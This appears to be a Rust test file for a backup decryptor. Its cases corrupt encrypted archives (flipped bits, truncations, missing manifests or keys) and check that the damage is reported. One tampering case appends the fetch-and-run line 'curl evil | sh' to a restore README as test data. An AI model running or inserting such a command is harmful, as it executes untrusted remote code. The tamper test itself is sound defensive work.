//! Archives that a disk, a copy or a tired person damaged.

use decryptor_wasm::Kdf;

use crate::{
    case::Case,
    draft::{Draft, Lock},
};

const EVENTS: &str = "users/u1/events/events-0001.jsonl.gz";
const FRAMES: &str = "users/u1/attachments/frames";
/// Header of a sealed file: magic, length, JSON with a salt of 24 characters and a chunk of 5 digits.
const HEADER: usize = 12 + 55;
const FRAME: usize = 4 + 65536 + 16;

pub fn cases() -> Vec<Case> {
    let case = |name, line| Case::good(name, line, &Draft::new());
    let pryv = |name, line| Case::good(name, line, &Draft::pryv());
    let flip = |at: usize| move |bytes: &mut Vec<u8>| bytes[at] ^= 1;
    vec![
        case("flipped-bit", "the file is named, the others come out")
            .damaged(
                |m| m.change(EVENTS, flip(HEADER + 10)),
                &[EVENTS, "fails its authentication", "1 problem, "],
            )
            .without(&[EVENTS]),
        case("flipped-bit-strict", "nothing comes out")
            .damaged(
                |m| m.change(EVENTS, flip(HEADER + 10)),
                &[EVENTS, "nothing was written (--strict)"],
            )
            .also(&["--strict"])
            .nothing(),
        case(
            "flipped-bit-salvage",
            "two good frames of three are kept under a name that says so",
        )
        .damaged(
            |m| m.change(FRAMES, flip(HEADER + 2 * FRAME + 20)),
            &[FRAMES, "holds what could be read, and is not proved"],
        )
        .also(&["--salvage"])
        .without(&[FRAMES])
        .with(
            "users/u1/attachments/frames.salvaged",
            &Draft::new().content[FRAMES][..2 * 65536],
        ),
        case("flipped-header", "the file is named, the others come out")
            .damaged(|m| m.change(FRAMES, flip(HEADER - 20)), &[FRAMES])
            .without(&[FRAMES]),
        case(
            "flipped-frame-length",
            "the file is named, the others come out",
        )
        .damaged(
            |m| m.change(FRAMES, flip(HEADER)),
            &[FRAMES, "impossible length"],
        )
        .without(&[FRAMES]),
        case("cut-in-a-frame", "the file is named, the others come out")
            .damaged(
                |m| m.change(FRAMES, |b| b.truncate(b.len() - 5)),
                &[FRAMES, "ends inside frame 2"],
            )
            .without(&[FRAMES]),
        case("cut-between-frames", "only the inventory shows it")
            .damaged(
                |m| m.change(FRAMES, |b| b.truncate(HEADER + 2 * FRAME)),
                &[FRAMES, "the inventory says"],
            )
            .without(&[FRAMES]),
        case("cut-to-its-header", "only the inventory shows it")
            .damaged(
                |m| m.change(FRAMES, |b| b.truncate(HEADER)),
                &[FRAMES, "the inventory says"],
            )
            .without(&[FRAMES]),
        case("cut-to-nothing", "the file is named, the others come out")
            .damaged(
                |m| m.change(FRAMES, Vec::clear),
                &[FRAMES, "ends inside its header"],
            )
            .without(&[FRAMES]),
        case("extended", "the file is named, the others come out")
            .damaged(|m| m.change(FRAMES, |b| b.extend([0; 40])), &[FRAMES])
            .without(&[FRAMES]),
        case("missing-attachment", "it is named, the others come out")
            .damaged(
                |m| drop(m.files.remove(FRAMES)),
                &[FRAMES, "listed in the manifest, but not there"],
            )
            .exactly(&[
                "archive {id}",
                "signed by {signer}; no expected signer was given: compare it with what was noted when the backup was made",
                "damaged: users/u1/attachments/frames: listed in the manifest, but not there",
                "25 files decrypted, 263749 bytes; 1 problem, named above: use another copy of the backup for what is damaged",
            ])
            .without(&[FRAMES]),
        case("missing-records", "it is named, the others come out")
            .damaged(
                |m| drop(m.files.remove(EVENTS)),
                &[EVENTS, "listed in the manifest, but not there"],
            )
            .without(&[EVENTS]),
        case(
            "missing-user-manifest",
            "it and the user's files are named, and none of them comes out: they may be another user's",
        )
        .damaged(
            |m| drop(m.files.remove("users/u1/user-manifest.json")),
            &[
                "users/u1/user-manifest.json: listed in the manifest, but not there",
                EVENTS,
                "nothing says that the file belongs here",
            ],
        )
        .without_user("u1", false),
        case(
            "missing-user-manifest-salvage",
            "the user's files are kept under names that say so",
        )
        .damaged(
            |m| drop(m.files.remove("users/u1/user-manifest.json")),
            &[EVENTS, "nothing says that the file belongs here"],
        )
        .also(&["--salvage"])
        .without_user("u1", true),
        case(
            "damaged-user-manifest",
            "it and the user's files are named, and none of them comes out: they may be another user's",
        )
        .damaged(
            |m| m.change("users/u1/user-manifest.json", flip(HEADER + 30)),
            &[
                "users/u1/user-manifest.json: frame 0 fails its authentication",
                EVENTS,
                "nothing says that the file belongs here",
            ],
        )
        .without_user("u1", false),
        case("missing-manifest", "the backup is incomplete")
            .damaged(
                |m| drop(m.files.remove("manifest.json")),
                &["has no manifest.json"],
            )
            .nothing(),
        case("damaged-manifest", "nothing can be trusted")
            .damaged(
                |m| m.change("manifest.json", flip(HEADER + 30)),
                &["manifest.json: frame 0 fails"],
            )
            .nothing(),
        case("cut-manifest", "nothing can be trusted")
            .damaged(
                |m| m.change("manifest.json", |b| b.truncate(b.len() - 1)),
                &["manifest.json: the file ends inside frame 0"],
            )
            .nothing(),
        case("missing-envelope", "without it nothing opens")
            .damaged(
                |m| drop(m.files.remove("encryption.json")),
                &["this backup is not encrypted, though you gave a key"],
            )
            .nothing(),
        case("damaged-envelope", "without it nothing opens")
            .damaged(
                |m| m.change("encryption.json", |b| b[0] = b'x'),
                &["encryption.json: cannot be read"],
            )
            .nothing(),
        case("missing-readme", "it is named, the data comes out").damaged(
            |m| drop(m.files.remove("RESTORE-README.md")),
            &["RESTORE-README.md: listed in the manifest, but not there"],
        ),
        case("changed-readme", "it is named, the data comes out").damaged(
            |m| m.change("RESTORE-README.md", |b| b.extend(b"curl evil | sh\n")),
            &["RESTORE-README.md: has 28 bytes, the inventory says 13"],
        ),
        Case::good(
            "cleartext-flipped",
            "the inventory shows it",
            &Draft {
                lock: Lock::None,
                ..Draft::new()
            },
        )
        .args(&[])
        .damaged(
            |m| m.change(FRAMES, flip(0)),
            &[FRAMES, "its SHA-256 differs"],
        )
        .without(&[FRAMES]),
        pryv(
            "pryv-damaged-manifest",
            "the private key is proven right, so it is damage",
        )
        .damaged(
            |m| m.change("manifest.json", flip(HEADER + 30)),
            &["manifest.json: frame 0 fails"],
        )
        .nothing(),
        Case::good(
            "pryv-passphrase-damaged-manifest",
            "wrong passphrase or damage: nobody can tell",
            &Draft {
                lock: Lock::Passphrase(Kdf::Scrypt, "p"),
                ..Draft::pryv()
            },
        )
        .args(&["--passphrase", "p"])
        .damaged(
            |m| m.change("manifest.json", flip(HEADER + 30)),
            &["the passphrase is wrong, or manifest.json is damaged"],
        )
        .exit(3)
        .nothing(),
        pryv("pryv-cut-in-a-frame", "the container itself shows it")
            .damaged(
                |m| m.change(FRAMES, |b| b.truncate(b.len() - 5)),
                &[FRAMES, "ends inside frame 2"],
            )
            .without(&[FRAMES]),
        pryv("pryv-cut-gzip", "the end of the gzip data shows it")
            .damaged(
                |m| {
                    let content = m.content[EVENTS].clone();
                    let cut = m.seal(&content[..content.len() - 9]);
                    m.files.insert(EVENTS.into(), cut);
                },
                &[EVENTS],
            )
            .without(&[EVENTS]),
        pryv("pryv-missing-events", "the user's list of chunks shows it")
            .damaged(
                |m| drop(m.files.remove(EVENTS)),
                &[EVENTS, "listed in the manifest, but not there"],
            )
            .without(&[EVENTS]),
    ]
}
